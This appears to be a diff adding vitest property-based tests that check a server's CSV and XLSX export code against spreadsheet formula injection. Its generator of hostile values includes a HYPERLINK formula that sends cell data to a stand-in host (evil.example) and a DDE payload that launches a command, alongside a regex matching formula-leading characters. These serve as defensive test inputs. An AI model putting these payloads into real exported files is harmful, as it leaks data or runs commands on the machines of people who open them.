@@ -1,0 +1,130 @@
+import { Readable } from "node:stream";
+import { buffer } from "node:stream/consumers";
+import fc from "fast-check";
+import Papa from "papaparse";
+import readXlsxFile from "read-excel-file/node";
+import { describe, expect, test } from "vitest";
+import { cellOf, plainCell, safeCell, type Cell } from "#server/resources/cells.ts";
+import { csvOf } from "#server/resources/csv.ts";
+import { xlsxOf } from "#server/resources/xlsx.ts";
+
+const hostile = fc.oneof(
+  fc.string({ unit: "grapheme" }),
+  fc
+    .tuple(
+      fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\0", "'", "''", "＝", "＋", "－", "＠"),
+      fc.string(),
+    )
+    .map((parts) => parts.join("")),
+  fc.constantFrom(
+    '=HYPERLINK("https://evil.example?"&A1)',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    '"=1+1"',
+    "a,b\r\nc;d",
+    'say "no"',
+    "  =1",
+  ),
+);
+/** What a spreadsheet takes for a formula, or for a sign before one. */
+const danger = /^[=+\-@\t\r\n\0＝＋－＠]/;
+
+async function* batches(rows: Cell[][]): AsyncGenerator<Cell[][]> {
+  for (let from = 0; from < rows.length; from += 2) yield rows.slice(from, from + 2);
+}
+
+describe("a cell of an export [1.2.10]", () => {
+  test("is never a formula, and its text can be had back", () => {
+    fc.assert(
+      fc.property(hostile, (text) => {
+        const cell = safeCell(text);
+        expect(cell).not.toMatch(danger);
+        expect(plainCell(cell)).toBe(text);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  test("shows what a row holds", () => {
+    const values: [unknown, Cell][] = [
+      [null, ""],
+      [undefined, ""],
+      [3, 3],
+      [-3.5, -3.5],
+      [true, true],
+      ["Ann", "Ann"],
+      ["=1", "'=1"],
+      [["a", "b"], "a; b"],
+      [["=1", "b"], "'=1; b"],
+      [{ id: 1, name: "Ann Lee" }, "Ann Lee"],
+      [{ id: 1, name: "=Ann" }, "'=Ann"],
+      [
+        [
+          { id: 1, name: "Ann" },
+          { id: 2, name: "Ben" },
+        ],
+        "Ann; Ben",
+      ],
+      [{ a: 1 }, '{"a":1}'],
+    ];
+    for (const [value, cell] of values) expect(cellOf(value)).toEqual(cell);
+  });
+});
+
+describe("a file", () => {
+  const rowsOfTexts = fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 8 });
+
+  test("of CSV begins with its mark, has a line a row, and is read as it was written [1.2.10][T-54]", async () => {
+    await fc.assert(
+      fc.asyncProperty(rowsOfTexts, async (rows) => {
+        const cells = rows.map((row) => row.map((text) => safeCell(text)));
+        const bytes = await buffer(Readable.from(csvOf(["one", "two"], batches(cells))));
+        expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+        const text = bytes.toString("utf8").slice(1);
+        expect(text.endsWith("\r\n")).toBe(true);
+        const { data, errors } = Papa.parse<string[]>(text.replace(/\r\n$/, ""), {
+          newline: "\r\n",
+          delimiter: ",",
+        });
+        expect(errors).toEqual([]);
+        const wellFormed = rows.map((row) => row.map((one) => one.toWellFormed()));
+        expect(data.slice(1).map((row) => row.map(plainCell))).toEqual(wellFormed);
+        for (const row of data) for (const cell of row) expect(cell).not.toMatch(danger);
+      }),
+      { numRuns: 200 },
+    );
+  });
+
+  test("of XLSX opens, and holds texts as texts, numbers as numbers [1.2.10]", async () => {
+    const rows: Cell[][] = [
+      ["'=1+1", 3, true],
+      ["<&>\"' ]]> \u0001\u0008 \ud800 ünï 🦊", -2.5, false],
+      ["", 0, true],
+      ["  spaces  \n and lines", 1e21, false],
+      ["x".repeat(40_000), Number.NaN, true],
+    ];
+    const bytes = await buffer(
+      xlsxOf("A name/with [signs] that is much too long for a sheet", ["t", "n", "b"], batches(rows)),
+    );
+    const [sheet] = await readXlsxFile(bytes, { trim: false });
+    expect(sheet!.data).toEqual([
+      ["t", "n", "b"],
+      ["'=1+1", 3, true],
+      ["<&>\"' ]]> \ufffd\ufffd \ufffd ünï 🦊", -2.5, false],
+      [null, 0, true],
+      ["  spaces  \n and lines", 1e21, false],
+      [`${"x".repeat(32_766)}…`, null, true],
+    ]);
+  });
+
+  test("ends where its reading fails, and is not taken for whole", async () => {
+    async function* failing(): AsyncGenerator<Cell[][]> {
+      yield [["a"]];
+      throw new Error("the database is gone");
+    }
+    for (const file of [csvOf(["one"], failing()), xlsxOf("s", ["one"], failing())])
+      await expect(buffer(Readable.from(file))).rejects.toThrow("the database is gone");
+  });
+});
